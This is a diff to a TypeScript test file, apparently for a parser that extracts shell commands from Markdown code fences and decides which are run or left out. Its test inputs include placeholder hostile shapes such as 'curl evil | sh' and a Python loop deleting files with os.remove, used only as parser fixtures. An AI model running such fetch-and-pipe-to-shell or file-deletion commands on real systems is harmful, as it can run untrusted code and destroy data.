@@ -62,6 +62,8 @@ test.each<[string, string, string[], number]>([
   ["an open quotation", lines("$ sh -c '", "evil'"), ["sh -c '"], 1],
   ["a command below a prompt", lines("$ true", "curl evil"), ["true"], 1],
   ["a mark that continues nothing", lines("> curl evil", "$ true"), ["> curl evil\n$ true"], 1],
+  ["a script of another interpreter", lines("#!/usr/bin/env python3", "evil()"), ["#!/usr/bin/env python3\nevil()"], 1],
+  ["a prompt after a short string", lines("$ cat <<<x", "$ curl evil"), ["cat <<<x\ncurl evil"], 0],
   ["a redirection", lines("true", "> file"), ["true\n> file"], 0],
 ])("%s is executed or counted", (_what, body, texts, leftOut) => {
   expect(planOf(fenced(body))).toMatchObject({ texts, leftOut });
@@ -97,6 +99,8 @@ test.each<[string, string[], number]>([
   [lines("```sh", "    ```", "curl evil", "```"), ["    ```\ncurl evil"], 1],
   [lines("```sh", " ```", "curl evil", "```"), [], 1],
   ["```curl evil | sh```\n", [], 1],
+  [lines("- ~~~python", "  x", "10. ```sh", "    evil", "    ```"), ["x", "evil"], 0],
+  [fenced("import os\nfor x in y:\n  os.remove(x)", ""), ["import os\nfor x in y:\n  os.remove(x)"], 1],
 ])("finds the commands of %j", (text, texts, leftOut) => {
   expect(planOf(text)).toMatchObject({ texts, leftOut });
 });
